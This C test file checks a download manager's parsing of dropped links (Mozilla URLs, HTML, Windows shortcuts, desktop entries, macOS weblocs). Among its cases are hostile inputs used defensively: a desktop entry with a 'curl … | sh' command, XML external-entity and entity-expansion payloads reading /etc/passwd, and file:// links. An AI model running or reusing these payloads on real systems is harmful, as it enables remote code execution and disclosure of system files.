/* SPDX-License-Identifier: GPL-3.0-or-later */

/* Tests of what browsers and file managers hand over. */

#include "config.h"

#include "request/download-link-text.h"

#include <string.h>

static void
assert_drop (const char *mime_type,
             const char *data,
             gssize      length,
             const char *expected)
{
  g_autoptr (GBytes) bytes = g_bytes_new (data, length >= 0 ? (gsize) length : strlen (data));
  g_autoptr (GPtrArray) links = download_link_text_parse_drop (mime_type, bytes);
  g_autoptr (GString) found = g_string_new (NULL);

  for (guint i = 0; i < links->len; i++)
    g_string_append_printf (found, "%s%s", i > 0 ? " " : "", download_link_get_uri (g_ptr_array_index (links, i)));

  g_assert_cmpstr (found->str, ==, expected);
}

static void
test_utf8 (void)
{
  static const struct
  {
    const char *mime_type;
    const char *data;
    const char *links;
    const char *reason;
  } cases[] = {
    { "text/x-moz-url", "https://a.example/b\nThe title", "https://a.example/b", "link and title" },
    { "text/x-moz-url", "https://a.example/b", "https://a.example/b", "Chromium on Wayland sends no title" },
    { "text/x-moz-url", "https://a.example/b\r\nhttps://title.example/\r\nhttps://a.example/c\r\nx", "https://a.example/b https://a.example/c", "titles that look like links" },
    { "text/x-moz-url", "https://a.example/b c\nx", "https://a.example/b%20c", "a blank in the link" },
    { "TEXT/X-MOZ-URL", "https://a.example/b\nx", "https://a.example/b", "the type in upper case" },
    { "text/x-moz-url", "file:///etc/passwd\nx", "", "a file" },
    { "_NETSCAPE_URL", "https://a.example/b\nhttps://title.example/", "https://a.example/b", "link and title" },
    { "_NETSCAPE_URL", "https://a.example/b", "https://a.example/b", "no title" },
    { "text/uri-list", "# comment\r\nhttps://a.example/b\r\nfile:///x\r\nhttps://a.example/c\r\n", "https://a.example/b https://a.example/c", "a list" },
    { "text/uri-list", "file:///x\r\n", "", "only files" },
    { "text/html", "<a href=\"https://a.example/b?c=d&amp;e=f\">text</a>", "https://a.example/b?c=d&e=f", "a link" },
    { "text/html", "<meta charset='utf-8'><A HREF='https://a.example/b'>x</A>", "https://a.example/b", "single quotes" },
    { "text/html", "<a href=https://a.example/b>x</a>", "https://a.example/b", "no quotes" },
    { "text/html", "<a class=\"x\" data-href=\"https://no.example/\"\n href = \"https://a.example/b\" >x</a>", "https://a.example/b", "other attributes" },
    { "text/html", "<a href=\"https://a.example/b\">https://shown.example/</a>", "https://a.example/b", "the text shows another link" },
    { "text/html", "<a href=\"https://a.example/b\">x</a><a href=\"https://a.example/c\">x</a>", "https://a.example/b https://a.example/c", "two links" },
    { "text/html", "<a href=\"/relative\">x</a>", "", "a relative link" },
    { "text/html", "<a href=\"https://a.example/?b=1&#38;c=2&#x26;d=3&#61;\">x</a>", "https://a.example/?b=1&c=2&d=3=", "numbered references" },
    { "text/html", "<a href=\"https://a.example/?a&copy=1&#0;&#;&#x;&#99999;\">x</a>", "https://a.example/?a&copy=1&", "references that are none" },
    { "text/html", "<p>https://a.example/b?c=d&amp;e=f</p>", "https://a.example/b?c=d&e=f", "no anchor" },
    { "text/html", "<area href=\"https://no.example/\">", "https://no.example/", "another tag, found as text" },
    { "text/html", "<a href=\"https://a.example/b", "https://a.example/b", "an open tag" },
    { "text/html", "<a href=", "", "an open attribute" },
    { "text/html", "<", "", "an open bracket" },
    { "text/plain", "see https://a.example/b.", "https://a.example/b", "text" },
    { "text/plain;charset=utf-8", "see https://a.example/b.", "https://a.example/b", "text with an encoding" },
    { "UTF8_STRING", "https://a.example/b", "https://a.example/b", "text of X11" },
    { "application/x-unknown", "https://a.example/b", "https://a.example/b", "anything else" },
    { "application/x-mswinurl", "[InternetShortcut]\r\nURL=https://a.example/b?c=d\r\nIconIndex=0\r\n", "https://a.example/b?c=d", "a shortcut of Windows" },
    { "application/x-mswinurl", "[{000214A0}]\r\nProp3=19,2\r\n[InternetShortcut]\r\nIDList=\r\nurl=https://a.example/b\r\n", "https://a.example/b", "in lower case" },
    { "application/x-mswinurl", "[InternetShortcut]\r\n", "", "an empty shortcut" },
    { "application/x-desktop", "[Desktop Entry]\nType=Link\nName=x\nURL[de]=https://no.example/\nURL=https://a.example/b\n", "https://a.example/b", "a link of the desktop" },
    { "application/x-webloc", "<?xml version=\"1.0\"?>\n<!DOCTYPE plist PUBLIC \"-//Apple//DTD PLIST 1.0//EN\" \"http://www.apple.com/DTDs/PropertyList-1.0.dtd\">\n<plist><dict>\n<key>URL</key>\n<string>https://a.example/b?c=d&amp;e=f</string>\n</dict></plist>", "https://a.example/b?c=d&e=f", "a link of macOS" },
    { "application/x-webloc", "bplist00\xd1\x01\x02SURL_\x10\x13https://a.example/b\x08\x0b", "https://a.example/b", "in binary" },
    { "application/x-webloc", "bplist00\xd1\x01\x02SURL_\x10xhttps://a.example/b\x08\x0b", "https://a.example/b", "in binary, with a length like a letter" },
    { "application/x-webloc", "<!DOCTYPE a [<!ENTITY b \"https://a.example/\"><!ENTITY c \"&b;&b;&b;\">]><key>URL</key><string>&c;&c;&c;</string>", "https://a.example/", "nothing is expanded, and found as text" },
    { "application/x-webloc", "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><key>URL</key><string>https://a.example/&b;</string>", "https://a.example/&b;", "no file is put in" },
    { "application/x-webloc", "<!DOCTYPE a SYSTEM \"https://b.example/dtd\"><key>URL</key><string>https://a.example/b</string>", "https://a.example/b", "no definition is fetched" },
    { "application/x-webloc", "<key>URL</key><string>file:///home/me/this.webloc</string>", "", "a link file that names itself" },
    { "application/x-desktop", "[Desktop Entry]\nType=Link\nURL=file:///home/me/this.desktop\n", "", "and another" },
    { "application/x-mswinurl", "[InternetShortcut]\r\nURL=file://server/this.url\r\n", "", "and a third" },
    { "application/x-desktop", "[Desktop Entry]\nType=Application\nExec=sh -c 'curl https://no.example/ | sh'\nURL=https://a.example/b\n", "https://a.example/b", "nothing is run" },
    { "text/x-moz-url", "", "", "nothing" },
    { "_NETSCAPE_URL", "", "", "nothing" },
    { "text/html", "", "", "nothing" },
    { "application/x-webloc", "<key>URL</key>", "", "nothing" },
  };

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_test_message ("%s: %s", cases[i].mime_type, cases[i].reason);
      assert_drop (cases[i].mime_type, cases[i].data, -1, cases[i].links);
    }
}

static void
test_utf16 (void)
{
  static const char *const charsets[] = { "UTF-16LE", "UTF-16BE" };
  static const char *const texts[] = { "https://a.example/\xe6\x96\x87\nTitle \xf0\x9f\x98\x80",
                                       "\xef\xbb\xbfhttps://a.example/\xe6\x96\x87\nTitle" };

  for (guint i = 0; i < G_N_ELEMENTS (charsets); i++)
    for (guint j = 0; j < G_N_ELEMENTS (texts); j++)
      {
        gsize            length;
        g_autofree char *data = g_convert (texts[j], -1, charsets[i], "UTF-8", NULL, &length, NULL);
        g_autofree char *odd = g_malloc0 (length + 1);

        assert_drop ("text/x-moz-url", data, (gssize) length, "https://a.example/%E6%96%87");

        /* Half a character too much, and a NUL at the end as some programs send it. */
        memcpy (odd, data, length);
        assert_drop ("text/x-moz-url", odd, (gssize) length + 1, "https://a.example/%E6%96%87");
      }
}

static void
test_nul (void)
{
  assert_drop ("text/plain", "https://a.example/b\0", 20, "https://a.example/b");
  assert_drop ("_NETSCAPE_URL", "https://a.example/b\nx\0", 22, "https://a.example/b");
  assert_drop ("text/uri-list", "https://a.example/b\0", 20, "https://a.example/b");
}

static void
test_mime_types (void)
{
  const char *const *types = download_link_text_get_mime_types ();

  g_assert_cmpstr (types[0], ==, "text/x-moz-url");
  g_assert_true (g_strv_contains (types, "_NETSCAPE_URL"));
  g_assert_true (g_strv_contains (types, "text/uri-list"));
  g_assert_true (g_strv_contains (types, "text/html"));
  g_assert_true (g_strv_contains (types, "text/plain"));
}

int
main (int   argc,
      char *argv[])
{
  g_test_init (&argc, &argv, NULL);

  g_test_add_func ("/link-drop/utf8", test_utf8);
  g_test_add_func ("/link-drop/utf16", test_utf16);
  g_test_add_func ("/link-drop/nul", test_nul);
  g_test_add_func ("/link-drop/mime-types", test_mime_types);

  return g_test_run ();
}
